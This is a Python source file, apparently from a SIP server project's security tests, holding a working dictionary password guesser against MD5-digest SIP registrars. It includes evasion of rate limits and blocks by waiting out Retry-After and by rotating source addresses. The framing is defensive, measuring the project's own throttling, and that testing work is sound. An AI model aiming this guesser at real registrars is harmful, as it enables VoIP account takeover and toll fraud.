"""A SIP registrar password guesser that speaks MD5 digest (the attacker's side of issue 13).

Written independently of our SIP stack (plain sockets, ``hashlib``), the way an attacker would:
REGISTER, take the 401's MD5 challenge, answer it with the next word of a dictionary, and use
each new 401 for the next word. It honours 503 (rate limit) by waiting ``Retry-After``; on a
403 refusal it either keeps going at once ("hammer": the refused word is lost, and every later
word is refused too while the block lasts) or waits ``Retry-After`` and tries the same word again
("patient": the best an attacker can do against the throttle). Every source address of 127.0.0.0/8 reaches this host, so ``--source`` lets one
machine play many attackers.

    python -m security.sip_digest_attack --target 127.0.0.1:5060 --user 2001 \
        --wordlist security/wordlists/sip_passwords_200.txt [--source 127.0.0.2] [--patient]

Prints one JSON report: guesses sent, the answers counted by status, the cracked password (or
null), after how many failures and how many seconds the first 403 came.
"""
from __future__ import annotations

import argparse
import asyncio
import hashlib
import json
import re
import secrets
import sys
import time
from collections import Counter
from collections.abc import Iterable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

_PARAM = re.compile(r'([A-Za-z-]+)\s*=\s*("([^"]*)"|[^,\s]+)')


@dataclass
class AttackReport:
    """What one guesser achieved against one username."""

    username: str
    source: str
    mode: str
    words: int = 0  # dictionary size
    attempts: int = 0  # REGISTERs carrying a guessed password
    checked: int = 0  # of those, the ones the registrar actually checked (answered 401 or 200, not 403)
    statuses: Counter[int] = field(default_factory=Counter)  # final answers to those guesses
    rate_limited: int = 0  # 503s (per-source REGISTER rate limit) that made it wait
    cracked: str | None = None
    failures_before_first_refusal: int | None = None  # 401s to guesses before the first 403
    seconds_to_first_refusal: float | None = None
    right_word_refused: bool | None = None  # when ``known`` was given: its guess got 403
    retry_after_seen: list[int] = field(default_factory=list)
    duration: float = 0.0
    stopped: str = ""  # why it ended: "dictionary exhausted", "cracked", "time limit", "no answer"

    def as_json(self) -> dict[str, Any]:
        out = asdict(self)
        out["statuses"] = {str(k): v for k, v in sorted(self.statuses.items())}
        del out["retry_after_seen"]
        out["max_retry_after"] = max(self.retry_after_seen, default=0)
        return out


def _md5(text: str) -> str:
    return hashlib.md5(text.encode()).hexdigest()


class _Socket(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.queue: asyncio.Queue[bytes] = asyncio.Queue()

    def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
        self.queue.put_nowait(data)


@dataclass
class _Response:
    status: int
    headers: list[tuple[str, str]]

    def all(self, name: str) -> list[str]:
        return [v for k, v in self.headers if k.lower() == name.lower()]


def _parse(data: bytes) -> tuple[_Response, str] | None:
    text = data.decode("utf-8", "replace")
    head = text.split("\r\n\r\n", 1)[0].split("\r\n")
    parts = head[0].split(" ", 2)
    if len(parts) < 2 or not parts[0].startswith("SIP/2.0") or not parts[1].isdigit():
        return None
    headers = []
    for line in head[1:]:
        name, _, value = line.partition(":")
        headers.append((name.strip(), value.strip()))
    response = _Response(int(parts[1]), headers)
    cseq = (response.all("CSeq") or [""])[0]
    return response, cseq


class DigestGuesser:
    """One attacker: a UDP socket on ``source`` guessing ``username``'s password at ``target``."""

    def __init__(self, target: tuple[str, int], username: str, source: str = "127.0.0.1",
                 domain: str | None = None) -> None:
        self.target = target
        self.username = username
        self.source = source
        self.domain = domain or target[0]
        self.call_id = secrets.token_hex(10)
        self.tag = secrets.token_hex(4)
        self.cseq = 0
        self.sock: _Socket | None = None
        self.transport: asyncio.DatagramTransport | None = None
        self.local_port = 0

    async def open(self) -> None:
        loop = asyncio.get_running_loop()
        transport, proto = await loop.create_datagram_endpoint(_Socket, local_addr=(self.source, 0))
        self.transport, self.sock = transport, proto
        self.local_port = transport.get_extra_info("sockname")[1]

    def close(self) -> None:
        if self.transport is not None:
            self.transport.close()

    def _register(self, authorization: str | None) -> tuple[bytes, str]:
        self.cseq += 1
        uri = f"sip:{self.domain}"
        lines = [
            f"REGISTER {uri} SIP/2.0",
            f"Via: SIP/2.0/UDP {self.source}:{self.local_port};branch=z9hG4bK{secrets.token_hex(8)};rport",
            "Max-Forwards: 70",
            f"From: <sip:{self.username}@{self.domain}>;tag={self.tag}",
            f"To: <sip:{self.username}@{self.domain}>",
            f"Call-ID: {self.call_id}",
            f"CSeq: {self.cseq} REGISTER",
            f"Contact: <sip:{self.username}@{self.source}:{self.local_port}>",
            "Expires: 60",
            "User-Agent: md5-guesser",
        ]
        if authorization:
            lines.append(f"Authorization: {authorization}")
        lines.append("Content-Length: 0")
        return ("\r\n".join(lines) + "\r\n\r\n").encode(), f"{self.cseq} REGISTER"

    async def _exchange(self, authorization: str | None, wait: float = 2.0) -> _Response | None:
        """Send one REGISTER (retransmitted once) and return its final response."""
        assert self.sock is not None and self.transport is not None
        data, cseq = self._register(authorization)
        for _ in range(2):
            self.transport.sendto(data, self.target)
            deadline = time.monotonic() + wait
            while (left := deadline - time.monotonic()) > 0:
                try:
                    raw = await asyncio.wait_for(self.sock.queue.get(), left)
                except TimeoutError:
                    break
                parsed = _parse(raw)
                if parsed and parsed[1] == cseq and parsed[0].status >= 200:
                    return parsed[0]
        return None

    def answer(self, challenge: str, password: str) -> str:
        """The Authorization value for an MD5 ``challenge`` (qop=auth when offered)."""
        params = {m.group(1).lower(): (m.group(3) if m.group(3) is not None else m.group(2))
                  for m in _PARAM.finditer(challenge.partition(" ")[2])}
        realm, nonce = params.get("realm", ""), params.get("nonce", "")
        uri = f"sip:{self.domain}"
        ha1 = _md5(f"{self.username}:{realm}:{password}")
        ha2 = _md5(f"REGISTER:{uri}")
        cnonce = secrets.token_hex(8)
        if "auth" in params.get("qop", ""):
            response = _md5(f"{ha1}:{nonce}:00000001:{cnonce}:auth:{ha2}")
            tail = f', qop=auth, nc=00000001, cnonce="{cnonce}"'
        else:
            response, tail = _md5(f"{ha1}:{nonce}:{ha2}"), ""
        return (f'Digest username="{self.username}", realm="{realm}", nonce="{nonce}", uri="{uri}", '
                f'response="{response}", algorithm=MD5{tail}')

    @staticmethod
    def md5_challenge(response: _Response) -> str | None:
        for value in response.all("WWW-Authenticate") + response.all("Proxy-Authenticate"):
            algorithm = re.search(r"algorithm\s*=\s*\"?([A-Za-z0-9-]+)", value)
            if algorithm is None or algorithm.group(1).upper() == "MD5":
                return value
        return None

    async def run(self, words: Iterable[str], *, patient: bool = False, interval: float = 0.0,
                  time_limit: float = 60.0, known: str | None = None) -> AttackReport:
        """Guess every word (or until cracked / ``time_limit``)."""
        wordlist = list(words)
        report = AttackReport(self.username, self.source, "patient" if patient else "hammer", len(wordlist))
        start = time.monotonic()
        challenge: str | None = None
        failures = 0
        if self.sock is None:
            await self.open()
        try:
            queue = list(reversed(wordlist))
            while queue:
                if time.monotonic() - start > time_limit:
                    report.stopped = "time limit"
                    break
                if challenge is None:
                    first = await self._exchange(None)
                    if first is None:
                        report.stopped = "no answer"
                        break
                    if first.status == 503:
                        report.rate_limited += 1
                        await asyncio.sleep(_retry_after(first, 1))
                        continue
                    challenge = self.md5_challenge(first)
                    if challenge is None:
                        report.stopped = f"no MD5 challenge (status {first.status})"
                        break
                word = queue[-1]
                result = await self._exchange(self.answer(challenge, word))
                challenge = None
                if result is None:
                    report.stopped = "no answer"
                    break
                if result.status == 503:
                    report.rate_limited += 1
                    await asyncio.sleep(_retry_after(result, 1))
                    continue  # the same word again
                queue.pop()
                report.attempts += 1
                report.statuses[result.status] += 1
                if result.status in (200, 401):
                    report.checked += 1
                if result.status == 200:
                    report.cracked = word
                    report.stopped = "cracked"
                    break
                if result.status == 401:
                    failures += 1
                    challenge = self.md5_challenge(result)
                elif result.status == 403:
                    wait = _retry_after(result, 0)
                    report.retry_after_seen.append(wait)
                    if report.failures_before_first_refusal is None:
                        report.failures_before_first_refusal = failures
                        report.seconds_to_first_refusal = round(time.monotonic() - start, 2)
                    if known is not None and word == known:
                        report.right_word_refused = True
                    if patient:  # the word was not checked: wait out the block, then try it again
                        queue.append(word)
                        await asyncio.sleep(min(max(wait, 1), max(0.0, time_limit - (time.monotonic() - start))))
                if interval:
                    await asyncio.sleep(interval)
            else:
                report.stopped = "dictionary exhausted"
            if known is not None and report.right_word_refused is None:
                report.right_word_refused = False
        finally:
            report.duration = round(time.monotonic() - start, 2)
        return report


def _retry_after(response: _Response, default: int) -> int:
    values = response.all("Retry-After")
    text = values[0].split(";")[0].strip() if values else ""
    return int(text) if text.isdigit() else default


def read_words(path: Path) -> list[str]:
    """One password per line; blank lines and ``#`` comments skipped."""
    return [w.strip() for w in path.read_text(encoding="utf-8").splitlines() if w.strip() and not w.startswith("#")]


async def _main(args: argparse.Namespace) -> int:
    host, _, port = args.target.rpartition(":")
    guesser = DigestGuesser((host, int(port)), args.user, args.source)
    report = await guesser.run(read_words(Path(args.wordlist)), patient=args.patient, interval=args.interval,
                               time_limit=args.time_limit)
    guesser.close()
    print(json.dumps(report.as_json(), ensure_ascii=False, indent=2))
    return 0 if report.cracked is None else 1


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="registrar host:port (UDP)")
    parser.add_argument("--user", required=True, help="username (extension) to attack")
    parser.add_argument("--wordlist", required=True, help="dictionary, one password per line")
    parser.add_argument("--source", default="127.0.0.1", help="local address to send from")
    parser.add_argument("--patient", action="store_true", help="wait Retry-After on 403 instead of hammering")
    parser.add_argument("--interval", type=float, default=0.0, help="seconds between guesses")
    parser.add_argument("--time-limit", type=float, default=600.0)
    return asyncio.run(_main(parser.parse_args(argv)))


if __name__ == "__main__":
    sys.exit(main())
